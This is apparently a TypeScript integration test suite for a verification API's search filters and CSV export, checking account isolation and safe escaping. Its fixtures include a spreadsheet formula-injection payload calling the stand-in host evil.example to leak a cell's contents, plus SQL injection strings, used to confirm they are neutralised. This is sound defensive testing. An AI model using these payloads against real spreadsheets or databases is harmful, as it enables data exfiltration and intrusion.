import assert from 'node:assert/strict'
import { sql } from 'kysely'
import { settle } from '../../db/verifications/settlements.ts'
import type { Verification } from '../../db/verifications/schema.ts'
import { call, startApi, type TestApi } from '../support/api.ts'
import { anAccount, aSession, aVerification } from '../support/factories.ts'

describe('finding and exporting verifications', () => {
  let api: TestApi
  let account: Awaited<ReturnType<typeof anAccount>>
  let token: string
  let other: string
  const made: Verification[] = []
  before(async () => {
    api = await startApi()
    account = await anAccount(api.db, { credits: 1_000 })
    ;({ token } = await aSession(api.db, account.accountId))
    const stranger = await anAccount(api.db)
    other = (await aSession(api.db, stranger.accountId)).token
    await aVerification(api.db, stranger, { endUserRef: 'customer-1' })
    made.push(
      await aVerification(api.db, account, { endUserRef: 'customer-1' }),
      await aVerification(api.db, account, {
        endUserRef: '100%_sure',
        country: 'fr',
        level: ['ID_DOCUMENT', 'AML_SCREENING'],
      }),
      await aVerification(api.db, account, {
        endUserRef: '=HYPERLINK("https://evil.example?"&A1;"Click, please")',
        mode: 'TEST',
        apiKeyId: account.test.id,
      }),
      await aVerification(api.db, account, { endUserRef: "x' or '1'='1", country: 'fr' }),
    )
    await settle(api.db, made[0].id, ['PENDING'], async () => ({
      status: 'DECLINED',
      reasonCodes: ['FACE_MISMATCH', 'LIVENESS_LOW'],
      riskScore: 80,
    }))
    await settle(api.db, made[3].id, ['PENDING'], async () => ({
      status: 'REVIEW',
      reasonCodes: ['LIVENESS_LOW'],
      riskScore: 30,
    }))
    for (const [index, { id }] of made.entries())
      await api.db
        .updateTable('verification')
        .set({ created_at: sql`${`2026-01-0${index + 1}T00:00:00Z`}::timestamptz` as never })
        .where('id', '=', id)
        .execute()
  })
  const list = async (query: Record<string, string>, key = token) => {
    const { status, json, text } = await call(
      api,
      'GET',
      `/v1/me/verifications?${new URLSearchParams(query).toString()}`,
      { key },
    )
    assert.equal(status, 200, text)
    const found = (json.items as { id: string }[]).map(({ id }) => made.findIndex((one) => one.id === id))
    assert.equal(json.total, found.length)
    return found
  }
  const csv = (query: Record<string, string> = {}, key = token) =>
    call(api, 'GET', `/v1/me/verifications.csv?${new URLSearchParams(query).toString()}`, { key })

  it('finds exactly the requested verification: by id, reference code in any case, end_user_ref', async () => {
    assert.deepEqual(await list({ q: made[0].id }), [0])
    assert.deepEqual(await list({ q: made[1].reference_code.toLowerCase() }), [1])
    assert.deepEqual(await list({ q: 'customer-1' }), [0])
    assert.deepEqual(await list({ q: '100%_sure' }), [1])
    assert.deepEqual(await list({ q: "x' or '1'='1" }), [3])
    for (const q of [
      '%',
      '_',
      '100%',
      'customer-_',
      'customer',
      "' or 1=1 --",
      '*',
      '\\',
      'ver_',
      made[0].id.slice(0, -1),
      'CUSTOMER-1',
    ])
      assert.deepEqual(await list({ q }), [], q)
  })

  it('finds nothing of another account by any of its values', async () => {
    for (const q of [made[0].id, made[0].reference_code, '100%_sure']) assert.deepEqual(await list({ q }, other), [])
    assert.equal((await list({ q: 'customer-1' }, other)).length, 1, 'their own verification of the same name')
    assert.ok(!(await csv({}, other)).text.includes(made[0].id))
  })

  it('applies every given filter', async () => {
    const cases: [Record<string, string>, number[]][] = [
      [{}, [3, 2, 1, 0]],
      [{ mode: 'TEST' }, [2]],
      [{ mode: 'LIVE' }, [3, 1, 0]],
      [{ country: 'fr' }, [3, 1]],
      [{ level: 'AML_SCREENING' }, [1]],
      [{ level: 'FULL_KYC', mode: 'LIVE' }, [3, 0]],
      [{ reason: 'LIVENESS_LOW' }, [3, 0]],
      [{ reason: 'LIVENESS_LOW', status: 'REVIEW' }, [3]],
      [{ reason: 'LIVENESS' }, []],
      [{ status: 'PENDING' }, [2, 1]],
      [{ from: '2026-01-02T00:00:00Z' }, [3, 2, 1]],
      [{ to: '2026-01-02T00:00:00Z' }, [0]],
      [{ from: '2026-01-02T01:00:00+01:00', to: '2026-01-03T00:00:00.000Z' }, [1]],
      [{ from: '2026-01-03T00:00:00Z', to: '2026-01-02T00:00:00Z' }, []],
      [{ q: 'customer-1', country: 'fr' }, []],
    ]
    for (const [query, found] of cases) assert.deepEqual(await list(query), found, JSON.stringify(query))
  })

  it('exports the same rows as the list, in its order, without formulas', async () => {
    const { status, text, headers } = await csv()
    assert.equal(status, 200)
    assert.deepEqual(
      [
        headers['content-type'],
        headers['content-disposition'],
        headers['x-total-rows'],
        headers['x-row-limit'],
        headers['cache-control'],
      ],
      ['text/csv; charset=utf-8', 'attachment; filename="verifications.csv"', '4', '50000', 'no-store'],
    )
    const [head, ...lines] = text.split('\r\n')
    assert.equal(
      head,
      'id,reference_code,mode,level,country,doc_type,end_user_ref,status,reason_codes,risk_score,created_at,submitted_at,resolved_at,credit_state,credits',
    )
    assert.deepEqual(
      lines.map((line) => line.split(',')[0]),
      [...made.map(({ id }) => id).reverse(), ''],
    )
    assert.ok(lines[1].includes(`,"'=HYPERLINK(""https://evil.example?""&A1;""Click, please"")",`), lines[1])
    assert.match(
      lines[3],
      /^ver_\w+,\w+,LIVE,FULL_KYC,de,,customer-1,DECLINED,FACE_MISMATCH LIVENESS_LOW,80,2026-01-01T00:00:00.000Z,,2\S+,RELEASED,5$/,
    )
    assert.equal((await csv({ country: 'fr', status: 'REVIEW' })).text.split('\r\n').length, 3)
    assert.equal((await csv({ q: 'nobody' })).text.split('\r\n').length, 2)
    for (const [name, value] of [
      ['page', '1'],
      ['status', 'DONE'],
      ['q', ''],
    ])
      assert.equal((await csv({ [name]: value })).code, 'VALIDATION_ERROR')
  })

  it('breaks off, without an end of the file, when the database goes away meanwhile', async () => {
    const wide = await anAccount(api.db)
    await sql`insert into verification (id, account_id, mode, level, checks, reference_code, challenge, cost_credits, credit_state, expires_at)
      select 'ver_wide' || n, ${wide.accountId}, 'LIVE', array['FULL_KYC'], array['DOCUMENT'], 'WIDE' || n, '{}', 5, 'NONE', now() from generate_series(1, 600) n`.execute(
      api.db,
    )
    // The second batch contains a row that cannot be rendered, which acts like a broken connection.
    await sql`update verification set created_at = created_at - interval '1 year', expires_at = 'infinity' where id = 'ver_wide1'`.execute(
      api.db,
    )
    await assert.rejects(csv({}, (await aSession(api.db, wide.accountId)).token), /aborted|socket hang up|ECONNRESET/)
  })

  it('exports each row once, over many batches, also rows of the same moment', async () => {
    const busy = await anAccount(api.db)
    await sql`insert into verification (id, account_id, mode, level, checks, reference_code, challenge, cost_credits, credit_state, created_at, expires_at)
      select 'ver_' || lpad(n::text, 26, '0'), ${busy.accountId}, 'LIVE', array['FULL_KYC'], array['DOCUMENT'], 'BUSY' || n, '{}', 5, 'NONE',
        timestamptz '2026-01-01Z' + (n / 700) * interval '1 microsecond', now() from generate_series(1, 2100) n`.execute(
      api.db,
    )
    const { text } = await csv({}, (await aSession(api.db, busy.accountId)).token)
    const ids = text
      .trim()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(',')[0])
    assert.deepEqual([ids.length, new Set(ids).size], [2100, 2100])
    assert.deepEqual(ids, ids.toSorted().reverse())
  })
})
